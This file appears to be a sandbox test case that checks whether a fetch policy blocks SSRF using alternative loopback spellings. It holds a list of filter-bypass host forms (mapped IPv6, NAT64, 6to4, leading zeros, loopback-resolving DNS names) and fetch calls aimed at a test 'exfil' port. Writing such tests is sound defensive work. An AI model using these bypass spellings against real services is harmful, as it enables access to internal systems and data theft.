// attack: SSRF with address spellings not in the shared corpus, aimed both at the exfil port and at the ALLOWED port under another host spelling (the allowed server flags any Host header but 127.0.0.1:<port>): IPv4-mapped/compatible IPv6 ([::ffff:127.0.0.1], [::ffff:7f00:1], [0:0:0:0:0:ffff:127.0.0.1], [::127.0.0.1]), NAT64 [64:ff9b::7f00:1], 6to4 [2002:7f00:1::], zone ids, [::], 127.255.255.254, 127.0.0.1 with leading zeros and trailing dots, localhost variants, and DNS names that resolve to loopback
// source: CVE-2024-29415 and CVE-2023-42282 (node `ip` isPublic bypasses with mapped/odd spellings); CVE-2021-28918 / CVE-2021-29418 (netmask octal/leading-zero parsing); RFC 6052 (NAT64) and RFC 3056 (6to4)
// needs: fetch
// category: capability
// expect: blocked (E_DENIED (refused at policy load while no http plugin is registered)) - hosts are compared after canonicalisation; the exfil server sees nothing and the allowed server sees only its own Host
const ID = '141-fetch-ssrf-alt-spellings';
const UP = '../'.repeat(16);
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 160); } catch (_) { return 'unprintable'; } };
const shown = (v) => {
  if (typeof v === 'string') return v.slice(0, 200);
  if (v === undefined) return null;
  if (ArrayBuffer.isView(v)) return '<' + v.byteLength + ' bytes>';
  if (Array.isArray(v) && v.length > 40) v = v.slice(0, 40).concat(['... ' + (v.length - 40) + ' more']);
  try { return JSON.parse(JSON.stringify(v, (k, x) => (typeof x === 'string' ? x.slice(0, 200) : x))) ?? null; } catch (e) { return typeof v; }
};
const out = [];
const attempt = async (label, thunk) => {
  try { const v = await thunk(); if (out.length < 120) out.push({ label, ok: true, value: shown(v) }); return v; }
  catch (e) { if (out.length < 120) out.push({ label, ok: false, error: msg(e) }); return undefined; }
};
const exfil = (p) => 'http://127.0.0.1:' + input.exfilPort + '/' + ID + (p || '');
const allowed = (p) => 'http://127.0.0.1:' + input.allowedPort + '/allowed/' + (p || '');
const show = async (r) => ({ status: r.status, body: String(await r.text()).slice(0, 200) });
const A = input.allowedPort;
const E = input.exfilPort;
const hosts = ['[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[0:0:0:0:0:ffff:127.0.0.1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[fe80::1%25lo]', '[::]', '127.255.255.254', '127.0.0.01', '127.0.0.1..', '0127.0.0.1', 'localhost.localdomain', 'localtest.me', '127.0.0.1.nip.io', '[::ffff:0.0.0.0]'];
for (const h of hosts) {
  await attempt('exfil via ' + h, () => fetch('http://' + h + ':' + E + '/' + ID + '/' + encodeURIComponent(h)).then(show));
  await attempt('allowed port via ' + h, () => fetch('http://' + h + ':' + A + '/allowed/' + encodeURIComponent(h)).then(show));
}
return { blocked: out };
